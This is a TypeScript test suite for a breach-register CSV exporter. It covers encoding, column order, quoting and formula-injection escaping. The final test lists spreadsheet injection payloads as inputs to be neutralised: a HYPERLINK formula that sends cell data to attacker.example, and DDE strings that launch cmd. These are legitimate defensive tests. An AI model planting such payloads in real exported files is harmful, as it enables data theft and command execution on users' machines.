import { breachRegisterCsv } from '../../client/http/breach-register-csv';
import type { BreachRegisterEntry } from '../../records/breach-register';
import { registerEntry, registerNotice } from '../support/breach-register';

/** The header line as a spreadsheet has shown it since the register was first exported. */
const headerLine =
  'incident_id,aware_at,detected_at,incident_status,contained,summary,data_categories,subjects_approx,measures,' +
  'customer_id,notice_status,notified_at,acknowledged_at,controller_deadline_at,contractual_deadline_at,notice_problem,' +
  'closed_at,final_report';

/** Added after the first export, at the end: a spreadsheet's earlier columns stay where they were. */
const addedColumns =
  'suspected_since,confirmed_at,ruled_out_at,subject_categories,records_approx,likely_consequences,' +
  'data_categories_known_at,subject_categories_known_at,subjects_approx_known_at,records_approx_known_at,' +
  'likely_consequences_known_at';

/** RFC 4180, written here from the RFC rather than with the library under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') {
        quoted = false;
      } else {
        cell += char;
      }
    } else if (char === '"' && cell === '') {
      quoted = true;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else if (char === '\r' || char === '\n') {
      throw new Error(`a bare line break outside quotes at ${i}: the row would be split`);
    } else {
      cell += char;
    }
  }
  if (quoted) throw new Error('an unterminated quoted cell');
  if (cell !== '' || row.length > 0) throw new Error('the last record has no CRLF');
  return rows;
}

const bom = '\uFEFF';
const withoutBom = (csv: string) => {
  expect(csv.startsWith(bom)).toBe(true);
  return csv.slice(bom.length);
};

/** The register's lines, each value under the name its column has in the file's own header. */
function registerRows(csv: string): Array<Record<string, string>> {
  const [head, ...rows] = parseCsv(withoutBom(csv));
  return rows.map((row) => {
    expect(row).toHaveLength(head!.length);
    return Object.fromEntries(head!.map((column, index) => [column, row[index]!]));
  });
}

const entry = (changes: Partial<BreachRegisterEntry> = {}) =>
  registerEntry(
    {
      incidentId: 'INC-2026-001',
      awareAt: '2026-01-05T09:00:00.000Z',
      detectedAt: '2026-01-05T08:30:00.000Z',
      summary: 'Une clé d’API a été publiée.',
      dataCategories: ['names', 'email addresses'],
      subjectsApprox: 420,
      measures: ['The key was revoked'],
    },
    changes,
  );

describe('the breach register as CSV', () => {
  test('starts with a UTF-8 byte-order mark, then the same header as before, the added columns after it', () => {
    const csv = breachRegisterCsv([]);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withoutBom(csv)).toBe(`${headerLine},${addedColumns}\r\n`);
  });

  test('a suspected breach ruled out, and facts that arrived after the report, each with the instant it became known', () => {
    const [row] = registerRows(
      breachRegisterCsv([
        entry({
          suspectedSince: '2026-01-05T09:00:00.000Z',
          ruledOutAt: '2026-01-06T09:00:00.000Z',
          subjectCategories: ['customers', 'employees'],
          recordsApprox: 1800,
          likelyConsequences: 'Phishing attempts.',
          factsKnownAt: {
            dataCategories: '2026-01-05T08:30:00.000Z',
            subjectsApprox: '2026-01-05T08:30:00.000Z',
            subjectCategories: '2026-01-05T15:00:00.000Z',
            recordsApprox: '2026-01-05T16:00:00.000Z',
            likelyConsequences: '2026-01-05T17:00:00.000Z',
          },
        }),
      ]),
    );
    expect(row).toMatchObject({
      suspected_since: '2026-01-05T09:00:00.000Z',
      confirmed_at: '',
      ruled_out_at: '2026-01-06T09:00:00.000Z',
      subject_categories: 'customers; employees',
      records_approx: '1800',
      likely_consequences: 'Phishing attempts.',
      data_categories_known_at: '2026-01-05T08:30:00.000Z',
      subject_categories_known_at: '2026-01-05T15:00:00.000Z',
      subjects_approx_known_at: '2026-01-05T08:30:00.000Z',
      records_approx_known_at: '2026-01-05T16:00:00.000Z',
      likely_consequences_known_at: '2026-01-05T17:00:00.000Z',
    });
  });

  test('one line per incident and customer, every value in its column, accents intact', () => {
    const csv = breachRegisterCsv([
      entry({
        summary: 'Une clé d’API a été publiée; «Datalek» bij één klant, "quoted", and\na second line',
        contained: true,
        notifications: [
          registerNotice('cust-fr', {
            status: 'notified',
            notifiedAt: '2026-01-05T10:00:00.000Z',
            acknowledgedAt: '2026-01-05T11:00:00.000Z',
            controllerDeadlineAt: '2026-01-08T10:00:00.000Z',
            contractualDeadlineAt: '2026-01-06T08:00:00.000Z',
          }),
          registerNotice('cust-nl', { status: 'undeliverable', problem: '550 mailbox unavailable, try later' }),
        ],
      }),
      entry({
        incidentId: 'INC-2026-002',
        summary: 'Une clé d’API a été publiée.\nSeconde ligne',
        subjectsApprox: undefined,
        factsKnownAt: { dataCategories: '2026-01-05T08:30:00.000Z' },
        status: 'closed',
        closedAt: '2026-02-01T00:00:00.000Z',
        finalReport: 'Root cause: a leaked key.\r\nFixed.',
      }),
    ]);
    const firstIncident = {
      incident_id: 'INC-2026-001',
      aware_at: '2026-01-05T09:00:00.000Z',
      detected_at: '2026-01-05T08:30:00.000Z',
      incident_status: 'open',
      contained: 'true',
      summary: 'Une clé d’API a été publiée; «Datalek» bij één klant, "quoted", and\na second line',
      data_categories: 'names; email addresses',
      subjects_approx: '420',
      measures: 'The key was revoked',
      closed_at: '',
      final_report: '',
      suspected_since: '',
      confirmed_at: '',
      ruled_out_at: '',
      subject_categories: '',
      records_approx: '',
      likely_consequences: '',
      data_categories_known_at: '2026-01-05T08:30:00.000Z',
      subject_categories_known_at: '',
      subjects_approx_known_at: '2026-01-05T08:30:00.000Z',
      records_approx_known_at: '',
      likely_consequences_known_at: '',
    };
    const noNotice = {
      customer_id: '',
      notice_status: '',
      notified_at: '',
      acknowledged_at: '',
      controller_deadline_at: '',
      contractual_deadline_at: '',
      notice_problem: '',
    };
    expect(registerRows(csv)).toEqual([
      {
        ...firstIncident,
        customer_id: 'cust-fr',
        notice_status: 'notified',
        notified_at: '2026-01-05T10:00:00.000Z',
        acknowledged_at: '2026-01-05T11:00:00.000Z',
        controller_deadline_at: '2026-01-08T10:00:00.000Z',
        contractual_deadline_at: '2026-01-06T08:00:00.000Z',
        notice_problem: '',
      },
      {
        ...firstIncident,
        ...noNotice,
        customer_id: 'cust-nl',
        notice_status: 'undeliverable',
        notice_problem: '550 mailbox unavailable, try later',
      },
      {
        ...firstIncident,
        ...noNotice,
        incident_id: 'INC-2026-002',
        incident_status: 'closed',
        contained: 'false',
        summary: 'Une clé d’API a été publiée.\nSeconde ligne',
        subjects_approx: '',
        subjects_approx_known_at: '',
        closed_at: '2026-02-01T00:00:00.000Z',
        final_report: 'Root cause: a leaked key.\r\nFixed.',
      },
    ]);
    // The accents are UTF-8 on the wire, as Excel reads them after the byte-order mark.
    expect(Buffer.from(csv, 'utf8').includes(Buffer.from('é', 'utf8'))).toBe(true);
  });

  test.each([
    ['=', '=HYPERLINK("http://attacker.example/?"&A1,"details")'],
    ['+', '+32 2 555 01 23'],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
    ['full-width =', '\uFF1D1+1'],
  ])('a cell beginning with %s is prefixed with a quote, so no spreadsheet runs it', (_case, text) => {
    const csv = breachRegisterCsv([
      entry({
        summary: text,
        dataCategories: [text],
        measures: [text],
        finalReport: text,
        notifications: [registerNotice('cust-1', { status: 'undeliverable', problem: text })],
      }),
    ]);
    const [row] = registerRows(csv);
    for (const column of ['summary', 'data_categories', 'measures', 'notice_problem', 'final_report']) {
      expect(row![column]).toBe(`'${text}`);
    }
    // Nothing else is touched: a formula character inside a cell is text already.
    const [plain] = registerRows(breachRegisterCsv([entry({ summary: `Costs: 1+1=2 @ ${text}` })]));
    expect(plain!.summary).toBe(`Costs: 1+1=2 @ ${text}`);
  });
});
